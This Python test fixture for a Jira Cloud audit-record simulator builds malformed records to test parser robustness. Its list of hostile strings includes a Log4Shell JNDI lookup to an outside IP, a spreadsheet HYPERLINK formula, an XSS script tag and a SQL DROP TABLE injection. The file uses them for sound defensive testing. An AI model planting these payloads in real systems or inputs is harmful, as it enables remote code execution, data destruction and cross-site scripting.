"""Records that a careless reader does not survive."""

from simulators.jira_cloud.record_kinds import Record
from simulators.jira_cloud.records import RecordGenerator

HOSTILE_STRINGS = (
    "  leading, double  and trailing  ",
    "line\nbreak\r\n\ttab",
    "quotes \" ' ` and \\ backslash \\u0041 \\n",
    '=HYPERLINK("http://203.0.113.9","x")',
    "<script>alert(1)</script> &amp; ${jndi:ldap://203.0.113.9/a} %s {0} {{7*7}}",
    "'; DROP TABLE audit; --",
    "\x00\x01\x1f\x7f control \u0085 \u2028 \u2029 lines",
    "\ufeffbom \u200bzero\u200dwidth \u202eright to left\u202c",
    "e\u0301 is not \u00e9; \ufb01 ligature; \uffff no character",
    "👩\u200d👩\u200d👧 \U0001d518\U0001d52b\U0001d526 \U0010ffff",
    '{"json": ["in", "a", "string"]}',
    "null",
    "",
    "9007199254740993",
    "2026-02-30T25:61:00.000+0000",
)


def make_hostile_record(source: RecordGenerator, *, long: int = 100_000) -> Record:
    """Return a record of legal JSON with odd strings, a value of `long` characters, nulls and unknown fields."""
    record = source.generate()
    text = source.actors.random.choice(HOSTILE_STRINGS)
    record["objectItem"] = {"id": text, "name": text, "typeName": "", "selfLink": {"href": text}}
    record["changedValues"] = [
        *({"fieldName": odd, "changedFrom": odd, "changedTo": odd} for odd in HOSTILE_STRINGS),
        {"fieldName": None, "changedFrom": None},
        {"fieldName": "Long", "changedTo": "äöü " * (long // 4), "unit": "characters"},
        {},
    ]
    record["associatedItems"] = []
    record["description"] = None
    record["riskScore"] = {"value": 0.1, "factors": [1, 2**53 + 1, -0.0, None, True, {"": text}]}
    return record


def make_mistyped_record(source: RecordGenerator) -> Record:
    """Return a record whose values have types that the specification forbids."""
    record = source.generate()
    record["category"] = ["permissions"]
    record["authorKey"] = 4711
    record["objectItem"] = "a string"
    record["changedValues"] = {"fieldName": "not in an array"}
    record["associatedItems"] = [None, "x", {"id": 12, "name": {"nested": True}}]
    return record
